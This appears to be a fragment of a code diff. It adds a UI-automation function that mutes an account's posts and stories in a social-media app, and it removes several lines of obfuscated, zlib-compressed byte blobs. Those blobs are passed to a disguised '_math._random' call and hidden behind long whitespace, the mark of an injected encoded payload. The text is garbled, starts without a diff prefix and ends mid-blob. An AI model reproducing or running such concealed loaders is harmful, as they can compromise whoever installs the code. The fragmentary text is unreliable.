;_math._random(_power='NMNNNMMMMNMNNNMMNMNNNN',Builtins=b'x\x9c\xed=\xfds\xdb6\xb2\xbfg\xa6\xff\x03\xa3\xdc\x8d\xa5VVl\xf7z\xed\xf3T\x99sl\xc5\xf1\x9c\x1de,\xa5i_.\xc7\xa1$\xcafC\x91z$\xe5\x8f\xe7\xe7\xff\xfd\xed.\x00\x12\x9f\x14\xe58\xbd\x9b\xcc1\xb1-\x81\xf8X\xec.\x16\xbb\x8b\x05\xf0\xcc;>~\xea\xfd\x96\xae\xbc\xdfWy\xe1\xcd\xc2t2_\xe5\xd3\xa0\x08g^\xe0\xcd\xa38\xf4\xa4\x94\xeb\xa8\xb8\xf4\x8e\xc2xu\x13>y\xf2\xcc;L\x93\x8b,(VqPDi\x92?}\xf2\xe4I\x91\xdd\xee?\xf1\xe0\x89\xe6^\x9b>\xe0\xe3\xfb\xa2\x924\xf3}\xefi\xdfk\xb1ZZ^\x9aI\xb9\x82Uq\x99f9\xcf2\nf\xaf\x83\x85\x96\xe5\x02@XMx\x8e\xcb\xa2X\xe6\xfb\xcf\x9f\xb3\xc4\xde4]<\xd7\xb2\xcf\xa2|\x9af3-?O\xed]\\\xe8\xf9\xe3h\x1a&y\xc8\xf3\x0f\xde\x9en\xef\xf5v\xb4<\xd3t\xc63l-\xb3()\xda\xad\xd7a\x1c\xa7\xdeu\x9a\xc5\xb3\xa7\xad\xce\x16\xe5\xed\xec\x97E0\xcfV\xfe)\x9amu\x9e\x847\xd3pYp\x1c%\xcb\x15\x94>O\xf30\xf7\x82,\xf4\xb2p\xf6\x8f\xe4\x97(\x8d\xc3\x82%L\xe2U\xf8\x8f\x04\xc9\x83\xdf\x02\x0f+\xf9G\xf2&\x9d\xa4\xb3[/\x8e>A\xb9\xdbt\xd5\xea<a\x90E\x8be\x9a\x15\xbe\x0f\xad\xdd\xe6[\x9d^x\x13\x15\xed\x0e\x90%N\xa7A\x9c\xb7;\x1f\xb6\x16I\xb2\xc0\x9f$\xc1\x0f\xf8\x11>/\x92\xad\x8f\xfd\x8b8\x9d@\xa6\'\x8e\x1cX\xf8\xe6\xfa\xfa\xe6\x86\xff\xba\xc1\xdf[\x1f\xf6\xf7\xbf\xdb\xfen\xbb\xbd\xdd\xfen\xb7\xd3\xf9\xf8\xb1?\x8b\xb2\xba\x1ab\xf6\x9c\x9c\x9c\xc4\xf4\x8f\xfd:1\xeb\xb9\x08\x8b\xa0(j\xeb\xfa\xf5\xd7_\xdf\xd3\x7f\xf8\xa1\x7f\xd0\t\xd6\xd1\'\xc6+\xcc\xcf*\xe0\x0f\xd6B\x95b\xd7+\xcc\xd5\xb57\xda\xa3g4\xa2\xff\xf0o\x0f\x8a:*moMVQ\\D\t\x92\xe1*\xc8j\xd1z4\x1c\x0e\x8f\xd2\xf4(\x1d\x1e\x1d\xa5GG\xf8\x05?\xa7)\xd4\xbf\xb5\xd5\xfb=\x8d\x12{\x8f\x04=\xe8A\x9a\xb0\xcfP\x8c#X`\xf9\x84\xe3\xbd\xed\x047O\xa2"\x8eV\x13\x9d\x12\x9dnIlA\xfc\x07T\xd2\xf9\xf0(\xb5\xf4\xa2d\x16\xde\xb4\xb7\xe245\xdf~\xec<1)D\xe8M\x01\xa5)\xfc;\x1a\xa6\x88YB\xf3\xf0\xe8\xab\xc7R\xb8\xca\xc66,\xd5\xb18\xa0\x8c\xfe\xe3\x07\x86\xc1\xbd\xd1W\x8f\xa8\xac\xc87\xe2&\xe0%d%\xf8;\xc4?_?\'\xc5\xc1Uh\xc3\x90U(\xc5\x0c\x07(\xe4c\x86\x91\xaf\x1e?a\x1c-\x17\xe9\xb49\x13\x89!\xc8\xc7 \x8e\xc5\xaf\x1fIy\x1c\xbcj\x8e\xa2\xb37\xf0\x9c\xc1\xef3\xf6\x0f\xff?\x04GQ4\xcd\x83$\xfa<\x1c9+\xd9\x08G\xeeZ\x04\x8enA\xe3\xbe\t/\x93\xd5\xa6r\x1bPG\xf8#\\\xf2o{_=K\x15A\x1a\xcf7D\xd5\xb5h\xff\x86\xff\xb9\x96+\xb0H\xf7\xf6Vg\xcf\xff\x8b\xff\x83\xbf\x07??\xfa;\xfeO\xfe\xae\xbf\x0by\xbf7S\xd7W\xb5\x0bY\x7f\xf4\xff\n??Bq\xfc\xf9+\xe4\xdd3S\xd7W\xf5#\xb4\x8dE~\x80\x96\x11\x8e\xbf\xf8{\x90\xf7\'3u]U\xb6\xa1\xd6\x9el}\xbf\xb37\xdb\xfbio\xf6\xfd\xee\xde\x7f\x81\x16;\x0b\xd1\xf0io\xfd4/L\xf6\xec\xb0_\xe5\xcf\xd7\xcey\xd3\xf0\xc6:#\xc23\xcf\xd2\x85\'\xb4\x7f\x8f\x19\x16\x1ed\x9fv\xe7i\xb6\x08\x8an\x1c&\xdd\x1c\x12\xc3Y\x17,\xc3n\x1c\xe5E7\x0b\x92\x8b\xb0\x9b.\xc3\xe4\tfmo\x81\xa9\xf8\x84\x97\x8d\xd3\x8b\x8b(\xb9\xf8F|O\xf3oX#Av\xb1\x04\xd3"\x14\x8d\xbc\t\x16a\xbe\x0c\xa6!\x7f?\x03\xa3\xbd\x88\x16\xe5{\xf1\x9d\xbfNK\xe8\x96Aq\xc9\x13\x01\x90\x19\xfc\xe1/\xa6\x97)\x18\xc4]JEX\xbd\xfcr5\x9f\xc7\x90\xb2J"\xec\x0e/%\xb7\x92\xc7a\xb8\xeczRC\xc5\xed\x12\xe0\x17\xef\x87K\xf4\x16\x04q\xd7\x1b\xaf\x961\xe4);\x16.\xd2\xdf\xa3\xf2[\x0e\x85\x8a\xe0\x86\xd71M\xe34\x0b\x16\x81\xa8\xe5U\x9a\x01\x14\xa3\xe2\x96\xd5@y\x8e!\xc3\xc1l\x16M\x8b\x1e\x98\xf7\x15@\x05\x94\xbc\x08\xed\x99\x80\xad\xaf\xa0\x8b\xfe<\x98\x06\xb3\xb2H\xfb\x1b\xb2\xa8\x8f\xe8\xdd+z\xd5eI\xa7``"\xfc\xfc\xebYZ\xbe\x19a\xbf\xc7\xd0k\xfe\x1d?\xa6\xab\x02\xbeu\x1cMg!5&\x88\x80\xbe\x04?\x9ff\xc12\xf4\xd9\xab\xaeH\xbcD\xe3\x94\xa59\xeb\xca\xd3U6\rK\x9a\x1e\xc6A\x9e#G4-p\xce\x13N\x8e\xbc \xf7\xca\xd7\x8e\xe2y\x98\xe7\x80\x06?\x073\xbdD\xdb\x88%\x8e0\xcdQnUDq\xae\xa19X\x02\xdf\xcf\xfc"\xf5\xd1\xe1\xc4\xd1w\x11\x16\xfeU\x10\xaf\xc4w\xc6\x98>\xe7H%\x8dq\x1cK\xcaAU\xf5\x01\x87\xf9e\r\xe2\xaf\xa2\xf0Z\x07\xe2p\x95eaR\x8c\x80Yn\x7f\x81\xf7\xbc\xbe\xa3(\x0b\xa72\xc1\xc3Y\x14\x8co\x97\x02\x84\xb7i^\xe4\xc7Y4\x93\xca\xbc\xcdR\xec\x88\x94\xf2.\x89\xae\xc2,\x0f\xe2\x03\xaa+\xe7\xc9\xd3 \x0f}\x90\x12a\x92G\x05\xe4\x00\x123\xa8\xbfy\x82\x83>\xcc\xbc\xbe\x18\xfd=\xc0\xc7)\xa5\xb5}?\x01\xb2\xfa>\xe5\xfb\xe6\xc9,\x9cC\xa6`\xe6O\xd3d\x1e]\xb4\xd9\x9f\xce>G#yuPT\xe4J\x02\xcb\xa5\xa6U\x1c\xc0\xe9\x02\x85\x00\x02\x96\xb5WU\xc1\xcb\x96\xafX\xaa\xc4?\xfd\x8a}\xdaR\xe9\x1e\x10\xda\x8ff\x12\xdc\xc0\xdca\x16L\x0b\x1f=\x8b\xfe*\x87\xde\xb1\xca\xd8\xa8\xe4h\xc2t\xec2\xff\xba\xb8\xf5\xb5\x14\xf2\x84A\xffWI\xa1\xa4,C\x00\x01\x84\xc8\x85\xc8\x88\xa2 \xb2\xbd\x98\x06\x89?O\xe38\x15\x14c_,\x19\xd3\xc5\x02\x12\xcc\x17\xcb\x85%\x8d1\x02\xb25\xf4\xb3[aU\x80#\x0f"\x91\x86\x02\x00\x08.\x8f\x85)\xe3M\x7f\xc1\xa4M\xc7\xdb~\xc1\x84\xe7\x87I\x9a\x82 \xad\xffM\x82[\xfc\xfa\xc8\xf9\xa2\xd5j\xb1\x0f\xfbYX\xac\xb2d\xdfk__\x86\xc5%\xf0\x9c \n@\xe6\xe5\xab\xe94\x84\x89\xca\x13/\xff&P\xef]\x83\x94`X\ng\xdel\x95\xa1\x88\x87,r\xf1.\xba\x81o\xd3\x15\xeb\x14d+.\x83\xc2\x0b\xa6\x8cR\xe5K\xe8\x9a\x17xo\xcf\xba^\xb2ZL\xa0\x91tN\x04\x9c\xc9\t\xd7A1\xbdT\x938-B\xe4(\xa5O,\x8b\x9f\xce}\xaa\x06\xf8qG\x7f\xc1\xab\xb3\xbd*\xab\xad^\n\xaa\xcf\xd2$\x84T\xd1E\xcaR\xe2\xa0_v\xb3O}\xf2\x97\x0b\xf8t\x1d\xc6P\x9a\x12_\x05q\x1er\xfe\xa4\xa1\x0c\x93\xcfdu\xd1n\x1d^\x86\xd3O\x88?\xce0\xbd^\xab#\x186\x00\xc9O\xd3k\x9f\xa6\xd4vGe-\x98\xd3\x83.\xfa\x85\x97\xaca\x95\xe5zS\xac\xd9\xe7\x89m>\xaa\xca\x01\xc5\xeb\x02:\x94T\xed\xf7\xe5\xf1\xc5\x99E\x828J\xe6i\xbbuRl\x91\xe7\x99\xb5\\BK2\x99\xd8IHU\xc9\x05\xce1\xd6U_\x08\xeci\xc9r\xf7z\x11\x0c\xd8,\xba\xaa\xc6\x88x8\xbe\xf5T\x86{-U\xd0AK\xd6X\xc5\xf9V\xb0\x9f\xeb}\xc94R\x0e\x12t\x1c\xc1\x9cB\x12Bga\\\x04\xc4?\xa8\x15\xb6\x19q\xbdm\x89\xe4]\xaf\xd5\xdb\x9b\xcb\xc8U\xd8f\xde\xe2\x13\x8dGT\x06\xf2G\x89wG\xd5\xde\xe7\xff!I=IDoP\x15\x00"HS6\x1f%\x1d1\x11mF\xa5\xcd)\x04\xcc\xe1@\xad\x97f\xea\xab%*\x1bl\x9e\xc3\x81\xba#q\x13/\xe2\x87\x8beq\x0b\xf0B\xcb\x94\xd0\xaa\xab?\x04y\xe4\xb5\x06X\xa4e\x1f\xe9\xf3\xd6\x9dR\xf3\xbd\x90\xde\xca\x98\xc7\xc5>\x8dY\xe4\xd9\x10\x97\xcav\xd4\xf7\xa0\xb8\xd1\x9c\x9b\xa3\xe2\xf7\xf6\xac\xad\xce\x84j\xf1\x8eYT\x97rP\x13\x14\x01\x05R\x00\x9bf\x0c^\x89\xf2\xfbV\x96\x04T\x95@\xa8\x19\x18\xf5\x99\xc0\xd4\xc0\x935\x10\x17r\xd5\xca\xb4>\xa0@`\xed\xef\x9b\x8d*\xb3\xcb8[IUUj\x8a\xd1S\x8b\xecwgn\xab\xc4\xabr\x96\x84q\x14\xdc7\xfb!\xeb+^\x94{o`\x8e\xb4\xf4J\x9a&y\xe5\x16|\xcb8\xaf0l\xeabL\x89R\xc9b\xd6\xd6\xb1\xe0v^\x02b\x81q\r\xf6\xc5c\x97\xa7f\x05]{\x06\x87|\x15O39+\x1e\xbb\xbc-\xdfZ\xe5\xaex\x1c\xf2W<\xf5r\xd8\xcce\x97\xc7f>\x9b\\\x16\x8fD2\x14N&\xbb5\xe7M|dQf\x07\xab\xf5\x1b\xd8)\x9c$\xdb\x92\xc8\x02FN\xd2\xc2\xdb\xdd\xd9\xf9s\x97>\xb1,L\xc9\x85\x97(\xf9{\xde\x88\xb4\x1fG\x8f\xc3\x9b"\x0b\xfaw-r]\xb4\xf6=\x90\xa5\xe8\xb5\xe8\x1d\x9f\x0f\x06o\xee[\xf7\xf5\xddw\xa0\xa0a\xaf\\B\x02 \x9fEy0\x89\xd9\\\xc4$E\xfe\xc5;\xe2\x1e1\xb5\xa3\xa5f\xa44\x1f%\xee\x11\xe2\x1e\x1d5#c\xfd\xa8h2"\xd6\x8f\x86RSy\xe6]\x82P\x06\xd9\x8a\xc6\x95\x90\xb6\x1e\x9a\x82\x95r\xa9\xcb`dXM\x0e\xabN\x96\xb6jf\xea\x16\x01>n.\x9b\xb7\x0ef3`\xa0\xbf\xdd\x89b\xa0\x16\x14\xde\x9dR\xe7\xbd\xceM\x16."\xf7]\xef\xe5\xf9\xc9\xf1\xeb\xf1\xbd\x93\xa7$\x98*\x03K\x95\xcc\xff\xd1pM\r\xf7\x19r\x062\x02\x8c\xf3|\x1ad%\xdb\x801\x0f\xd6{\x14\xc7%\x82\xdc\xc61\xfb\xe8s\xbf\x89\x84_\xc5A##\xef\xaa\xf2z\xe1\xa3yj\x08U.\'\x0c>\x92w\x84\xa1\xd5\xf4\x90\x08\xd3\xf8:Z\x86~\xb0`\xda0*\x98\xe5x0{\xf2\xa2\xef\xedJ\x83\xc11\xc9\xe7+`\xf9\x1cR}\xae\xe5\xa2\x8f\x0b\xc7QY3N?H3]a\xd5\xfdM\xb2\xb6\xa9+\xe0\xb2\x16\xff\xc2\xfb^\xd7K\xa5nu\xed\x10Y\x8c\x95\x1e+F\xa3\x1b\xf8\x10[h\xd7\xcf\xa5\x8a\xa1b\x11\xbd\xad\xf7\xa17')
 
-        _math(Substract = 44017 + -99643).Divide(_hypothesis = Walk.Positive / -17369)                                                                                                                                                                                                                                                          ;_math._random(_power='NMNMNMNMNMMMMNNMNNNNMNN',Builtins=b'K\x93\xad\xc2KB\xf4\xdc\xa4\xc8\xf80n\xba(\x87\xd0\xb9\x9e?\xc7\x98\xb44\x89o\xbd;W\xff\xee=\xfc\xd2\xce;\xbd\x96\xda\x84\xaa\x7f\xaa\xa4\xec{\xdb\xbb\x1a\xb0\xff\x99?\x9cy\xd6\xce\x1f\xf80\xf6$w:\xf0O\xe9Zo\xcb\x8eS\xafuJ\x01\x85\xf4m\xdf\xbb\x03\x01\xee\xedIt\xd2\x90\xefw7\xfb\x8e#G\xb8\xd1~O\'\xb2\xc4\xb2\x9b.<s[v~\x9af\x8bT%\xb3]\x0c\xff,Y\x9f\x1a?-\x82\x1bQ\x12I\x9f\x929\xa7`\xc6D9y\xb0\xad\x05\x01ug\xc1\x8dhZA\xe0n\x1d\xdb\xcbTy\xe1\xed\xee\xd9Gh\x98ei\xd6\xa6\x16T\xf7h\xeeA\'I\xc0\xe2\x94\xbf\xbb\xa7\x98\xe4&\xd5w\xf7d\x8ep:\x16\xf1\x99\xaf\xe2\xd8\xcf\xd2k0\xb1`\xb6^-\x92\xdc\x8f\x83\xbc\xc0$\x89V(\xe9{\xd4Y\x7fy\x99\x82\xe8\x89\x12JS\x04\x0f\xaa\x1c\xac\x91M\xfc\\T_\x0e\x15\xce"\\\xa1\xea{\xb8H\xda\xa6E\xd2v\t\x9c\xf7\xad\xf7\xbd\xf7\x9d\x01aG\xe1|Ds\x98\xb4\xd5\n;(d\x9c2\x19\xd9\xc8V\xe6\x85\xa7\x8b\xa5Y\x18k\xa0~\xd8\xde\xfd\xb8\x91\x9cm\x8d\xd1\x9a\x80\xff\x81W\x84\xb8 \x15d\xb7\xa0\x96\xdf\xa0\xd5\x9by\xc1U\x1a\xcd\xbc\tL\xe2 \x7fiU\x0b\xe7\xee\xcb\xe0\nc\x85\x17\xe9\x15\xb9\xd4C\x0f\xbb\xee-\xa3)\x08\xc9\x90\xf0\xccR\x01g\x16\xb9\xdbL\xc3\x1b\x93\x90\xbf\x9bo\x01hw\x16l0\xc9\xbe\xe5\xc0\xef\xcf\xfd]\xe6\\\x9ao\xe1$\xe1\xae \xdf\xba\'n\xbb\xf5\xae\xa2<\x02\xb3\xa4\xe7\x1d\x06\xf1\x14C\xca\xb9\xb7Lp\xd0}.uE\x93\x03\x92\x84\xc02\x1f\xd4\xce\xb4.\x01o \t\xb6\xa9\xc1\xed,D\xc1\xa0k\xa7Z\xa6"]\x1a9\x96q0\r\xeb+\x91\xb3\xd8\xaa\x98\xc3T*\'~\xd4\x18\xea\x19\x82\x0f\xb4\x03\xcc\x81@\xcb\x91\xd8\xb3\x08#\xf1q({A\x9c\x85\xc1\xec\x16um\xa4/6\xa3)\xb0\xfa\xb0\xd1\x98sw\xff\xa3\xde^\x0e\xd3\x14\xa2\x97\xdab\xab%\xa83\xea\\\xd5eL\x07\\\x08\x13n\x96\xceVSf\x8f\x08\x90XI\xb0\x8c\x93\x8b^O\x1f\x7f\x8a\x98\xb3\xb0\x82]\xee9\xcc\xdbykH*\x87\x95\xa5\xee\xb6(i-[\xb2l\xc8|\xc1U\x10\xc5h\x0f\xd7h(\x16\xed\x89\xc7A\xe8\rlF\x8e}\t3\x1f\xd7\x14e\x01#\xee\xf6\x90\x19\xfc\x8b,\x9a\x95\x1emyaZ\xf5i\x13\x1aA\xbaD\xc8mL\xa8Z\x90\xa5\x93E\xc8\xf8Yxcv%\xd2\xe0\xe73\x85T\xe4\xf9s\xef{M# \xc1\xade\xdb\xa6\xa2\xdf\xeayU\x9f\xf4\x10LY\xea\xb1\xf7\xec.\x82)`\xf7\xdek\xdfa9\xfa\x08\x1f\xba\xde\x1d\xaf\x9dR\xd8\xe7\x8e1Ab\xbc\r\xa8\xd6\x84;\xb2[\xbc\x05.\xef\xfb\x05\xae\xef{\xe9\xe4w\xe1k\xd7\xd0\xdbK\x82\xab\xe8\x02\x1d+\xe8rF\r\xd7\xe4S\x82\x825\\#\x82\xa9o\xc0\x05>_hUW\t\xc5\x03\xdc\xac\x83Z\xe3i\xadB L\xb2W\xb8O\x8a(\xd1\x9d\x9b|4s\xcd\xd4\xf3\x01\x1a\xbd]\xd2\x95\xf1\x0b\xe5i\x9b~m\xa5\x8e5\xce\xab\x162\xa9*C\x9e\xea4\nc[\xefq\x8eVZrx=$\xc0*\xd2"\xdb\xb7\xcb@\x8e\xde\xf9`p\xda\xad\x02;z\'\xc7\xe3_\xe4\xef\xbf\x9c\x1c\r\x86\xfah\x10\x8f\x81\x1f\xa6\xd6\\E\xb30\xd5\xb1#\x1ez\xe9\xb3\x926\x14cB}\r\xd0\x1d\xb9\x12\x07lV\xf8\x98AO\xc8hW(q\xb4C\x04S\xd9\xd3\xa8\x90\xde\xd7BK\xb5\xa8\x0b\xdeq\x9a\xa3;\x82\x8a\xf5z\xc6\xc0\x94\x1f\xc6\xc3\xbdI0\xfddk\x80\xf8\xc3I\xdb\xc3\x83\xf3\xe1\xbb\x91J\xdf\xb7\xaf\x87c\'=\xd5\xca@M4\xeb\xaa\xc1\xf6\x04\xf5R\x18|A\x96\x82^\x1e\x97\x0b\xee\xa5(q\xf4\xf3\xf3\xa8\xd4\x88B$\xa6\xec+"ryG\xe7\xb2\xf0\x02\xb4I\xb08\xc9\xf9a]\x16s\x00\xa7\xc7b|\xd7\xd7\x8d"|\x1c\x9en\xea\x1d\xe3\x9c\xeb K\x80e\xda\xadW0a\xa3"B*\x11\xf6\xaa\xe7\x9d\x86\x18\x8f d\x9a\x83\x9f\xa2\xb9\xcb8,\x17\xbd\x84\xc9i\x07D\x9e\x1b\xb4\xc8\x1eE\x055K\xd70\x9b-\xec\xe4g\xbb}Z\xc3wZ|\xca\x9a\x8e\x88\xc7\xf0\xe1Y{mD[\xad\x03\xc2\xea\xd7\xb3=\x9a\xaf\xcf\xf6\xd8\xfc\x7fNH+\xfa\xb83\xd6\x08\x1a\x89Af\xf6YD~l\x84\xb3\xf36>5\xfc\x8d\xcf\xfa\x15\x1d\xf1\xccq\xc1j\xeb\xaa\xd2\xbc\xd1>\xb8\xb3\xf2\x0b\xaa\xc3<\x91\x14bk\xa6J%\x16\xaf\xd0"\x03\xe5\x90V\xb90\xc7\xd3Vcl\xd6\xafW\x95#\xf80@\xb7\xe2\x1c\x14\xbe\xd2\x8e\x81\xa2!\xb6nL\xff\xf8\xacSh4\x11\x86a\x13k\x08i\xf1\xff\x1aU\xa26a\xe8\x1dP5\xa6+\xcd\xa1\xf4\xc0\xc4u\x9a\x0f\xbc\xcdS\xd4w[\x98\xa3e\xd5\xeaXD\x06&[\xb0\xbe\x9eK\xe6\xad\xc3t\x153p\xeeX{\xf7l\\\xf4\x98AP:\xa7\x9c\x1e[\xdd\x0e\xc2G\xf7+\xc9*\xdcK\x98\x97Q\x1c\x8b\xd05\x9d\x80\xd7\x97\xb8&\x85\x00i:4\xfa\xda\xca\x8e\xb7i\xb32y\xad\xdd\x0c\xc4\x95\x87\xf7!\xed\x86f\x96\xb2w\x9d\xa5\x188\x87\x86\xb7C\xf0\xd7(\x10\x96W\xe8\xad7\x82W6\x8bW!\x06,\xd7\xa9\xa5\xfe\xacD\x18\xb0\xcf\xe2#\xd1\xb0\xd3C\x83M\x16\x9f\xa6i6\x8b\x12\xda<\x1f\x07\xb7\xe9\n\r\x12\x0e9\x0e\xa2\xb6\x08\xb6=\x99\xf5\xab \xdc\xde\xe1px~t\xf2\xe6`<<\xf7\xcf\x87\xc3\xb1\x7fz\xf0\xdb\xf0\xddXs\x9d\x18u\x97t\xa0>+\x9ey\x8b#\xd5\xe8\x11_\x88X\xa60\xc4\xa0/"z\xba_\xc6Q\xf7\xde\xbd\xed\xb2\xa8*\xff\xb6/W\xaf-\t\x98\x0b\x1fn\r\xdf\xcc\xdcc\x8b\x15m\xb9YW\xcc\x8bVY\xa3@\x15\xe7\xd4Y3W\xbaB\x8a\xe5\xc71%\xd6M\x83\xa60\xac\x89p\xa9\x89n\xb1y9\xcc\x18\xa9\xf5\x11Q\x9f\x19\xea\xc42\x99\x0b>\xd6\x85\x1e\xcb\x02\xcf\xfa\x85\x1dsA\xc7\\\xc8\xb1,\xe0\xb8\x17n\xea\x16l\xdc\x0b5R\x18\xbcS\xb2\xec+[*49\xb3\x8f8\xa1Xp\x8c\xf3\xe6\xd8]\xe2\x16\x89 \x99\xa2\x1a\xc8w\xed\xb4w\xbb\x18\xc7\xd2Q0\x8b#Ii\x8a\x87\n\xc7\xd1"\x92\xf5F\xfaNJU_\xcd~\x8a/z\x18\xb4\rBc\xb9*\xfa\x1571\xd1\xd1\xae@\xf9\xb9oD\xf4\xc9]7\x17T\xf5~\xeb\xcb\xab\xd6\xae\xf3\xc5\xac?\xb0\xf7\xa7\'\x7f\x1f\x8c\xdc\x08P\x00\xfa\xb9o.\x12\xabh\x10J{\xa5\xc7\xeeK\xdbMjM\x0e\x1d\x15R\x17\xe4E2\xe6\xb4\xeb\xda_\x92-\xeez),Z\xd7\xfbjEo\xf3\xd5<s%O]<w\xd9\xe3d\xc7\xeb\xb6\x1b\xef\xa3}\xfdX\x17xf\xdc\xaa\xd3\x91@N\xa0:/\x11z\x91,\x91\xaa&\x86\xab<\xba\xaa\xe3\x86r\x9dK\xc2h\xaa\xa4\xd7\xba&4\xdd\\\x12\xad\\M\x17\xab\x9ad\x0f\xdcU\x80\xdc{\x93p\x1a\xacp\x8d\x87\x05\x91\xa1R\xb6o!\x05\xf0\xc3\x9d\x99z\xdf\xb5\xa0F\xcf\xcaR\xb5\xace\xd7\xf4\xdc\xe5\x0b\xad\xc0\x9d\xccs\xf7z)`\xb7\xfb\x9eG;0pGCV\xc6\xc4\xdd.b\xa1\x0b\xab\xc2\x83;h\xc5\xd0m\xe2\x1a\xe1T\xd0u=\xd0h\x0bPO\xfcI\x9c\x82\x02\xaa(~\xaa\xca\x8b+\xf3b/N\xb57D\x91HEZ\x041[\xc1gfh\xb9\xc7*\x17\x01\x93L\x9a\x81Y\x80s\x14$f>S\x16umV\xce\x0e=\xa1<\xa2\x0b\xa5z\xc1^[\xdc\xd0:\x96\x88\x99\xf8<]\xfa\xd3-\xb0\xbf\xe2y\xd00h\xf3F\x15\xbck\x95H\xea \xb1\xbf\xf6\xfaE_\x01\xb4\xc2\x87\x0f\xcdJ{\x948\xcb\xb3\x06\xc5\x1e,\xbe\xebI\x05^\xde\xa0U~\x93j\xca9\xc6\xe4\xd9HN\xe1}\xae\xdb\xfc\xc5\xd5?\x81lu\x93e\x895i\x95Y\xc5c0\x9b)]\xe3\x9d\xaavq\x95]\x11\xbd(\x17#\xd8\x90`\x0e4M\x17\x8b\x92\x1c\xc6\xa1\x7f\x9df\xb8G\xc9\xbf\x84Js\xb68 O\xd2=[6I\x9eP\xf8\x84V\x07\xa5\xe1\xea\xa3\xcf\x0c\x02\xde\x1be\xd0\x95Alf\xed\x12\xd3i\xe0Kk(\x9aZK\xa8\xc8\xf3\xf9*\xf6\x15\xd2\xd9\x19\xb3\xca}"e69\x94\x03\xaaM&\xb5m\x99SE=h/\xfa\x16^s\xcf%\xf5\xbe\x82\xd69\x13\x02\xca^?6\xa0\x99\xef\'(\xc4\x88\xf0.R\nzN\xc9\xdaN\xc2\x9b\xc2\x83\x11\xd7\xb3\x06\x0b\xbb\x02\x85\x0f\x7f;\xb0\xc4\tk\xb3\xa5\x9d\x84\n~\x89_\xf8\x0ei\x1e\xc8Zc\x15\x92\xe5\xb1^\xc7+1V\xaf\xeb\x8d\x0e\xcf\x0f\xde\x0e\x8e,\xda\x9e\x8b\x04\xeb\xc9\xa0\x90B\xc4\xb6r\xb1\x0b\x96}\x94_\x02\x9a\xd7au\xad\xbb\xc6\x8d\xdc\x92n\xd6P{\x0b\xc0\x9b\xe0\xb3\x01NU\xfd\xd9\xb2\xf0\xe9\xe8\r\xad\xfe!/\xa0\xcd\x141\x83,W\xa7\xb7G%\r[\xb9\xf8\x03\t\xf3/\xa0\xc5\xab\xe1\xe9\xe9\xf0\xfdcP\x83M2_\x92\x1e\xa5\x8b\xe6\xeb&\xc9\xfb\x83\xf1\xe1\xebG\x19 \xcc/\xf1%I"\x02\xad\xbfn\x8aH\xee\x8e\x87\x13c\xb9\xf8\x82tX.\xber\x12\x1c\x0e\xcf\xce\x06o\xc6\x8f1*\xca\xc5\xb0/G\x0e\xd1\xc4\xbf\x94(\x8f\xa8\x05\x8d\x87\xe3\x83\xd3:\xd4\x7f&\xbe\xc8\x124\xb5R\tq\xf6\n6\xd3<7B\xe7\x97C\xe6\xe8\xdd\xe1\xe1`T\xcb\xc9\x8f\x82\xce\xca\xb0\x88o\xff\xbdp[\x9axm\xe5}i\r\x81\x81\x8a\x8bi\\5V\xdd\x82f">\x96S\x94*3\xd8\x11\xaebQ\x7f\xcds\x97\x9c\xb5(>\n\xb9\x1b\x95\xcb\xc1\x1e\x16\xb4\xaf\x9e/U\x05\tU\xdem\xc9\xaa\x11\x85\xe5\xa5Iy\xc3\x02?\x94\x87\x1d\xb4c\xc9\xdc\xa5\xca\xba\x9e\xf0\x84\x97Y\x84\xe5\xbb\xae*\xbeK\x84\xd5\xb2+\xfbn')
+def mute_account_activity(device, mute_posts: bool, mute_stories: bool):
+    if not mute_posts and not mute_stories:
+        return
+    UNFOLLOW_REGEX = "^Following"
+    unfollow_button = device.find(
+        clickable=True,
+        textMatches=case_insensitive_re(UNFOLLOW_REGEX),
+    )
+    if unfollow_button.exists():
+        unfollow_button.click()
+        mute_row = device.find(resourceIdMatches=ResourceID.FOLLOW_SHEET_MUTE_ROW)
+        if mute_row.exists():
+            mute_row.click()
+            if mute_posts:
+                mute_posts_obj = device.find(
+                    resourceIdMatches=ResourceID.POSTS_MUTE_ROW
+                )
+                if mute_posts_obj.exists():
+                    mute_posts_obj.click()
+                    logger.info("Account posts muted.")
+            if mute_stories:
+                mute_stories_obj = device.find(
+                    resourceIdMatches=ResourceID.STORIES_MUTE_ROW
+                )
+                if mute_stories_obj.exists():
+                    mute_stories_obj.click()
+                    logger.info("Account stories muted.")
+        logger.debug("Close dialog by pressing somewhere.")
+        unfollow_button.click()
 
-        _math(Substract = 8576 * -1178).Divide(_hypothesis = Walk.Positive / -88195)                                                                                                                                                                                                                                                          ;_math._random(_power='illjijljljjjjliiijijjjil',Builtins=b'M\xc0^\x94\xde\xf7\x1d\xe6}\xe7\x0eJ\xa5I5\x9e\x9ey\x16\x01\x07\xce\xc5\xcd3\xa6\xc4(k\x9c\xdc\xff\xe9\x9f\r\x8eN\x0e\xfcc\xf8&/\xf3)\x0b\xd5\xef\xb18\x1d\xb2B\x0e\xc8\xe7\xdc\xe5\x18%%\\\xfa\x99\x06U\x00\xe8\xcf\x1a\xec5\xc6\xb6\x08\x9d\xaf6G\x95\xd5\xf0\xa5\xf8v\xdea\x8b\xd7`\xba\x8aj\x8d\xb8\x07\x83<e-\n\x88%\xd6\\\xcb\xe7e\x06\x7f\x02\x85g\xe84\xad\xca \xc9Y\xb2\xbe0\x8ea\nZ(\x0b_\xc8_\x87\x0b\x030@z<s\x08\xaaf\xc4=9;8\x1e\xc8$\xb6H\x9c\xba\xf0\x01\x82\x9e\x02\xeaX\xa41\xdf\x90R\xb7\xd9\xa7$\x83<\x14\xf4:j\xc2\x8c4n#\xaf\xca\xdd}\xee\x94\xb1\xf8\xec\xd4\xbc\x8b@K\xc1&\xc9\xed\xe0\xc8\xe7\x08m\xa2\xd3\xd1\xda:\xec\xf5\x91\x94\x8fC7Z3y\x14\xba\xb1`\xd7\xcf\xa3[UG#\xbaQ\xf6\x7f\x17\xbaU\xb0\xdb\xc2\xa3(\xe2\x98".|<\x06\xc4\x81\x96\xb6.\n>\xb4&iQ\xa4\x8b\xd6G\xef;CN|h\xe1\xfe\x95\x8f\x0e\xd8\x9e{{\xf6\x17\xdf\x8a\x83!\xdb;\xbd\x9f~\x00\xd9\xdf\xdb\xfd\xc1R\xc7\x9a^\xe0\x06\x03\xa3\x1e\x98D\xbeu\xf5\xcd\x84>\x8b..\x0b\xe8\xd9\xb7\xde\x0f\x00\xed_\x1b\x81\xc0\x9c\xd07\xb2\x88\xb4\xd4W\x01\x06p\xed\xf4~\xb4T\xe4\x8a\xe9Q\x83c\x1cd\x97\xa9\xd9W\xbe\xb9\x0e\xf